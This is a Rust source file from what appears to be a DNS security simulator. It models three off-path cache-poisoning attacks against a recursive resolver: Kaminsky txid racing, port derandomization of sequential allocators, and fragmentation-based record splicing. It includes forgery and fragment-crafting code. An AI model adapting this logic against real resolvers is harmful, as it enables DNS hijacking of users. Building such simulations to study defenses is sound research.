//! Off-path cache-poisoning adversaries — the other half of the spoofing
//! threat model: instead of flooding the server, the attacker spoofs the
//! *server* to the resolver and races the legitimate answer.
//!
//! Three adversaries, each driven through the simulator with exact ground
//! truth (the bench reads [`RecursiveResolver::poison_check`] after every
//! race, something a real attacker can only probe for):
//!
//! * [`KaminskyAttack`] — forces cache misses on never-before-seen
//!   subdomains (`miss<r>.victim.com`) and floods forged responses with
//!   uniformly-guessed txids during the authoritative round trip. Each
//!   race is an independent Bernoulli trial with per-guess probability
//!   `1/65536 × 1/ports`, so measured success must track
//!   `1 − (1 − 1/65536)^G` when the port is known.
//! * [`PortDerandomizer`] — the "Security of Patched DNS" observation that
//!   sequential ephemeral ports defeat the port patch: the attacker owns a
//!   zone, so the resolver *tells* it the current port when it queries;
//!   the next query's port is `observed + step` and the race runs with
//!   [`PortKnowledge::Exact`].
//! * [`FragPoisoner`] — "Fragmentation Considered Poisonous": when the
//!   response exceeds the path MTU, all query entropy (txid, port, 0x20
//!   casing) lives in the first fragment; an attacker who plants a
//!   spoofed *second* fragment (see `Simulator::plant_fragment`) replaces
//!   trailing records without guessing anything. This node only pulls the
//!   trigger — sends queries for the oversized RRset — while the harness
//!   plants the crafted tail built by [`craft_evil_tail`].
//!
//! [`RecursiveResolver::poison_check`]: server::recursive::RecursiveResolver::poison_check

use dnswire::message::Message;
use dnswire::name::Name;
use dnswire::record::Record;
use dnswire::types::RrType;
use netsim::engine::{Context, Node};
use netsim::packet::{Endpoint, Packet, DNS_PORT};
use netsim::time::SimTime;
use rand::Rng;
use std::net::Ipv4Addr;

/// Batch period of the forged-response pump (same open-loop discipline as
/// [`crate::flood::SpoofedFlood`]).
const TICK: SimTime = SimTime::from_micros(100);

/// What the off-path attacker knows about the resolver's query source
/// port. This is the single quantity the port defenses manipulate.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortKnowledge {
    /// The port is known exactly — a fixed-port resolver, or a sequential
    /// one after derandomization. Search space: 2^16 txids.
    Exact(u16),
    /// The attacker only knows the pool and sprays it uniformly. Search
    /// space: 2^16 × `range`.
    Range {
        /// Lowest port of the resolver's pool.
        base: u16,
        /// Pool size.
        range: u16,
    },
}

/// The forced-miss query name of race `race`: `miss<race>.<zone>`,
/// all-lowercase (the attacker does not know any 0x20 casing).
pub fn miss_name(zone: &Name, race: u32) -> Name {
    zone.child(format!("miss{race}").as_bytes())
        .expect("race label fits")
}

/// The poison target of race `race`: `target<race>.<zone>`, carried in the
/// additional section of every forgery. Distinct per race so races are
/// independent trials without cache flushes between them.
pub fn target_name(zone: &Name, race: u32) -> Name {
    zone.child(format!("target{race}").as_bytes())
        .expect("race label fits")
}

/// Splices the attacker's address into the tail of a legitimate response
/// wire: returns `wire[mtu..]` with the final A-record rdata (the last
/// four bytes of the message) replaced by `evil`. Everything the resolver
/// validates — txid, port, question casing, section counts — sits below
/// `mtu`, in the first fragment the attacker never has to forge.
pub fn craft_evil_tail(response_wire: &[u8], mtu: usize, evil: Ipv4Addr) -> Vec<u8> {
    assert!(
        response_wire.len() > mtu + 4,
        "response ({} bytes) must overflow the MTU ({mtu}) by a full A rdata",
        response_wire.len()
    );
    let mut tail = response_wire[mtu..].to_vec();
    let n = tail.len();
    tail[n - 4..].copy_from_slice(&evil.octets());
    tail
}

/// One armed guessing race: a pre-encoded forgery whose txid bytes are
/// patched per packet.
struct ForgeRace {
    wire: Vec<u8>,
    armed_at: SimTime,
    ports: PortKnowledge,
}

/// Open-loop forged-response pump shared by the Kaminsky and
/// port-derandomizing adversaries: spoofs `spoof_server:53` and emits
/// `rate` forgeries per second at `resolver:<guessed port>` for `window`
/// simulated time, txid drawn uniformly **with replacement** — the
/// birthday model the analytic bound assumes.
struct Forger {
    spoof_server: Ipv4Addr,
    resolver: Ipv4Addr,
    evil: Ipv4Addr,
    rate: f64,
    window: SimTime,
    race: Option<ForgeRace>,
    sent_this_race: u64,
    total_sent: u64,
}

impl Forger {
    fn new(spoof_server: Ipv4Addr, resolver: Ipv4Addr, evil: Ipv4Addr, rate: f64, window: SimTime) -> Self {
        Forger {
            spoof_server,
            resolver,
            evil,
            rate,
            window,
            race: None,
            sent_this_race: 0,
            total_sent: 0,
        }
    }

    /// Arms a race: forgeries for `qname` (answer section) carrying the
    /// poison `target` (additional section) start flowing at `armed_at`.
    fn arm(&mut self, qname: Name, target: Name, armed_at: SimTime, ports: PortKnowledge) {
        let q = Message::query(0, qname.clone(), RrType::A);
        let mut r = q.response();
        r.answers.push(Record::a(qname, self.evil, 600));
        r.additionals.push(Record::a(target, self.evil, 600));
        self.race = Some(ForgeRace {
            wire: r.encode(),
            armed_at,
            ports,
        });
        self.sent_this_race = 0;
    }

    fn active(&self) -> bool {
        self.race.is_some()
    }

    fn pump(&mut self, ctx: &mut Context<'_>) {
        let Some(race) = &self.race else { return };
        let now = ctx.now();
        if now < race.armed_at {
            return;
        }
        let elapsed = now.saturating_sub(race.armed_at);
        if elapsed >= self.window {
            self.race = None;
            return;
        }
        let due = (elapsed.as_secs_f64() * self.rate) as u64;
        let batch = due.saturating_sub(self.sent_this_race).min(1_000);
        for _ in 0..batch {
            let txid: u16 = ctx.rng().gen();
            let port = match race.ports {
                PortKnowledge::Exact(p) => p,
                PortKnowledge::Range { base, range } => {
                    base.wrapping_add(ctx.rng().gen_range(0..range.max(1)))
                }
            };
            let mut wire = race.wire.clone();
            wire[0] = (txid >> 8) as u8;
            wire[1] = txid as u8;
            ctx.send(Packet::udp(
                Endpoint::new(self.spoof_server, DNS_PORT),
                Endpoint::new(self.resolver, port),
                wire,
            ));
        }
        self.sent_this_race += batch;
        self.total_sent += batch;
    }
}

// ---- Kaminsky ----------------------------------------------------------

/// Configuration of [`KaminskyAttack`].
#[derive(Debug, Clone)]
pub struct KaminskyConfig {
    /// The attacker's real address (it is an ordinary resolver client).
    pub attacker: Ipv4Addr,
    /// The victim recursive resolver.
    pub resolver: Ipv4Addr,
    /// The authoritative server whose address the forgeries spoof.
    pub spoof_server: Ipv4Addr,
    /// Zone under attack; race names are minted beneath it.
    pub victim_zone: Name,
    /// Address planted in forged answer/additional records.
    pub evil: Ipv4Addr,
    /// Forged responses per second during each race window.
    pub forge_rate: f64,
    /// Number of independent races (each on a fresh miss/target name).
    pub races: u32,
    /// Time between race starts. Must exceed `arm_delay + window` so races
    /// never overlap.
    pub race_period: SimTime,
    /// Delay between sending the forced-miss query and opening the forged
    /// flood (covers client→resolver→authority propagation).
    pub arm_delay: SimTime,
    /// Duration of each forged flood — the attacker's estimate of the
    /// authoritative round-trip it is racing.
    pub window: SimTime,
    /// Port knowledge the attacker races with.
    pub ports: PortKnowledge,
}

/// The Kaminsky cache-poisoning adversary: force a miss, race the answer.
pub struct KaminskyAttack {
    config: KaminskyConfig,
    forger: Forger,
    next_race: u32,
    /// Forced-miss client queries sent.
    pub queries_sent: u64,
}

impl KaminskyAttack {
    /// Creates the attacker node.
    pub fn new(config: KaminskyConfig) -> Self {
        let forger = Forger::new(
            config.spoof_server,
            config.resolver,
            config.evil,
            config.forge_rate,
            config.window,
        );
        KaminskyAttack {
            config,
            forger,
            next_race: 0,
            queries_sent: 0,
        }
    }

    /// Total forged responses emitted.
    pub fn forged_sent(&self) -> u64 {
        self.forger.total_sent
    }
}

impl Node for KaminskyAttack {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(SimTime::ZERO, 0);
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
        let now = ctx.now();
        if self.next_race < self.config.races
            && now >= self.config.race_period * u64::from(self.next_race)
        {
            let r = self.next_race;
            self.next_race += 1;
            let miss = miss_name(&self.config.victim_zone, r);
            let q = Message::query(0x4000 ^ (r as u16), miss.clone(), RrType::A);
            ctx.send(Packet::udp(
                Endpoint::new(self.config.attacker, 30_000 + (r % 30_000) as u16),
                Endpoint::new(self.config.resolver, DNS_PORT),
                q.encode(),
            ));
            self.queries_sent += 1;
            self.forger.arm(
                miss,
                target_name(&self.config.victim_zone, r),
                now + self.config.arm_delay,
                self.config.ports,
            );
        }
        self.forger.pump(ctx);
        if self.next_race < self.config.races || self.forger.active() {
            ctx.set_timer(TICK, 0);
        }
    }

    fn on_packet(&mut self, _ctx: &mut Context<'_>, _pkt: Packet) {}
}

// ---- Port derandomizer -------------------------------------------------

/// Configuration of [`PortDerandomizer`].
#[derive(Debug, Clone)]
pub struct DerandConfig {
    /// The attacker's real address — it is both a resolver client and the
    /// delegated name server for `probe_zone`.
    pub attacker: Ipv4Addr,
    /// A zone the attacker controls (delegated to `attacker` in the world
    /// the harness builds); resolving any name under it makes the resolver
    /// reveal its current source port to the attacker.
    pub probe_zone: Name,
    /// The victim recursive resolver.
    pub resolver: Ipv4Addr,
    /// Authoritative server the forgeries spoof.
    pub spoof_server: Ipv4Addr,
    /// Zone under attack.
    pub victim_zone: Name,
    /// Address planted in forged records.
    pub evil: Ipv4Addr,
    /// Forged responses per second during each race.
    pub forge_rate: f64,
    /// Number of probe-then-race rounds.
    pub races: u32,
    /// Time between rounds (round `r` starts at `(r + 1) × race_period`;
    /// period 0 is the cache-priming warmup).
    pub race_period: SimTime,
    /// Duration of each forged flood.
    pub window: SimTime,
    /// Predicted port distance from the observed probe port — 1 for a
    /// sequential allocator.
    pub port_step: u16,
}

/// The "Security of Patched DNS" adversary: probe the resolver's port via
/// an attacker-owned zone, predict the next port of a sequential
/// allocator, then run the Kaminsky race with the port known.
pub struct PortDerandomizer {
    config: DerandConfig,
    forger: Forger,
    next_race: u32,
    awaiting_probe: Option<u32>,
    /// Iterative queries for `probe_zone` observed (and answered).
    pub probes_seen: u64,
    /// The most recent source port the resolver revealed.
    pub last_observed_port: Option<u16>,
    /// Client queries sent (warmup + probes + forced misses).
    pub queries_sent: u64,
}

impl PortDerandomizer {
    /// Creates the attacker node.
    pub fn new(config: DerandConfig) -> Self {
        let forger = Forger::new(
            config.spoof_server,
            config.resolver,
            config.evil,
            config.forge_rate,
            config.window,
        );
        PortDerandomizer {
            config,
            forger,
            next_race: 0,
            awaiting_probe: None,
            probes_seen: 0,
            last_observed_port: None,
            queries_sent: 0,
        }
    }

    /// Total forged responses emitted.
    pub fn forged_sent(&self) -> u64 {
        self.forger.total_sent
    }

    fn send_client_query(&mut self, ctx: &mut Context<'_>, txid: u16, name: Name, sport: u16) {
        let q = Message::query(txid, name, RrType::A);
        ctx.send(Packet::udp(
            Endpoint::new(self.config.attacker, sport),
            Endpoint::new(self.config.resolver, DNS_PORT),
            q.encode(),
        ));
        self.queries_sent += 1;
    }
}

impl Node for PortDerandomizer {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        // Warmup: prime the victim-zone delegation in the resolver's cache
        // so each later forced-miss query goes straight to the victim's
        // name server from exactly one freshly-allocated port.
        let warm = self
            .config
            .victim_zone
            .child(b"www")
            .expect("warmup label fits");
        self.send_client_query(ctx, 0x7757, warm, 28_000);
        ctx.set_timer(SimTime::ZERO, 0);
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
        let now = ctx.now();
        if self.next_race < self.config.races
            && now >= self.config.race_period * u64::from(self.next_race + 1)
        {
            let r = self.next_race;
            self.next_race += 1;
            let probe = self
                .config
                .probe_zone
                .child(format!("probe{r}").as_bytes())
                .expect("probe label fits");
            self.send_client_query(ctx, 0x6000 ^ (r as u16), probe, 29_000 + (r % 1000) as u16);
            self.awaiting_probe = Some(r);
        }
        self.forger.pump(ctx);
        if self.next_race < self.config.races || self.forger.active() || self.awaiting_probe.is_some()
        {
            ctx.set_timer(TICK, 0);
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Packet) {
        let Ok(msg) = Message::decode(&pkt.payload) else {
            return;
        };
        if msg.header.response {
            return;
        }
        // An iterative query from the resolver for our own zone: the
        // resolver just told us its current source port.
        let Some(q) = msg.question() else { return };
        if !q.name.is_subdomain_of(&self.config.probe_zone) {
            return;
        }
        self.probes_seen += 1;
        self.last_observed_port = Some(pkt.src.port);
        // Answer honestly (echoing the exact question casing, so even a
        // 0x20 resolver accepts) — we are this zone's real server.
        let mut resp = msg.response();
        resp.answers.push(Record::a(q.name.clone(), self.config.attacker, 600));
        ctx.send(Packet::udp(
            Endpoint::new(self.config.attacker, DNS_PORT),
            pkt.src,
            resp.encode(),
        ));
        if let Some(r) = self.awaiting_probe.take() {
            let predicted = pkt.src.port.wrapping_add(self.config.port_step);
            let miss = miss_name(&self.config.victim_zone, r);
            self.send_client_query(
                ctx,
                0x5000 ^ (r as u16),
                miss.clone(),
                31_000 + (r % 1000) as u16,
            );
            self.forger.arm(
                miss,
                target_name(&self.config.victim_zone, r),
                ctx.now(),
                PortKnowledge::Exact(predicted),
            );
        }
    }
}

// ---- Fragmentation poisoner --------------------------------------------

/// Configuration of [`FragPoisoner`].
#[derive(Debug, Clone)]
pub struct FragPoisonConfig {
    /// The attacker's real address (an ordinary resolver client).
    pub attacker: Ipv4Addr,
    /// The victim recursive resolver.
    pub resolver: Ipv4Addr,
    /// A name whose legitimate response overflows the path MTU.
    pub qname: Name,
    /// Trigger queries to send.
    pub trials: u32,
    /// Spacing between trigger queries.
    pub trial_period: SimTime,
}

/// The fragmentation-poisoning trigger: queries for an oversized RRset so
/// the authoritative response fragments in flight, where the
/// harness-planted second fragment (see [`craft_evil_tail`]) replaces its
/// tail. No guessing happens here — that is the point of the attack.
pub struct FragPoisoner {
    config: FragPoisonConfig,
    sent: u32,
}

impl FragPoisoner {
    /// Creates the trigger node.
    pub fn new(config: FragPoisonConfig) -> Self {
        FragPoisoner { config, sent: 0 }
    }

    /// Trigger queries sent so far.
    pub fn sent(&self) -> u32 {
        self.sent
    }
}

impl Node for FragPoisoner {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(SimTime::ZERO, 0);
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _tag: u64) {
        if self.sent >= self.config.trials {
            return;
        }
        let q = Message::query(
            0x3000 ^ (self.sent as u16),
            self.config.qname.clone(),
            RrType::A,
        );
        ctx.send(Packet::udp(
            Endpoint::new(self.config.attacker, 32_000 + (self.sent % 1000) as u16),
            Endpoint::new(self.config.resolver, DNS_PORT),
            q.encode(),
        ));
        self.sent += 1;
        if self.sent < self.config.trials {
            ctx.set_timer(self.config.trial_period, 0);
        }
    }

    fn on_packet(&mut self, _ctx: &mut Context<'_>, _pkt: Packet) {}
}
